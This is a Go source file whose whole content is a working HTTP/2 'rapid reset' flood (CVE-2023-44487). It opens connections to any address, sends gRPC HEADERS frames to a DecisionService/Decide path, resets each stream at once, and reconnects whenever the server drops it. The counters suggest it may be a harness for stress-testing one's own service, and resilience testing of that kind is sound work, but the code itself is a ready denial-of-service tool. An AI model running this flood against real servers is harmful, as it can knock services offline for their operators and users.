package main

import (
	"bytes"
	"context"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rstFlood opens an HTTP/2 connection and, until ctx ends, opens Decide
// streams and resets each at once (HEADERS then RST_STREAM, CVE-2023-44487's
// "rapid reset"); when the server closes the connection it opens another,
// as an attacker would. It returns the streams it opened, and the
// connections.
func rstFlood(ctx context.Context, addr string) (streams, conns int64, err error) {
	for ctx.Err() == nil {
		n, err := rstFloodConn(ctx, addr)
		streams += n
		conns++
		if err != nil {
			return streams, conns, err
		}
	}
	return streams, conns, nil
}

func rstFloodConn(ctx context.Context, addr string) (int64, error) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	// A write that fails is the server closing the connection: not an error.
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return 0, nil
	}
	fr := http2.NewFramer(c, c)
	if err := fr.WriteSettings(); err != nil {
		return 0, nil
	}
	// Read (and drop) what the server sends, acknowledging its settings.
	var wmu sync.Mutex
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
				wmu.Lock()
				_ = fr.WriteSettingsAck()
				wmu.Unlock()
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/nba.v1.DecisionService/Decide"},
		{":authority", addr}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	block := hb.Bytes()
	var n atomic.Int64
	stop := context.AfterFunc(ctx, func() { c.SetDeadline(time.Now()) })
	defer stop()
	for id := uint32(1); ctx.Err() == nil && id < 1<<31-2; id += 2 {
		wmu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		if err == nil {
			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		wmu.Unlock()
		if err != nil {
			break
		}
		n.Add(1)
	}
	return n.Load(), nil
}
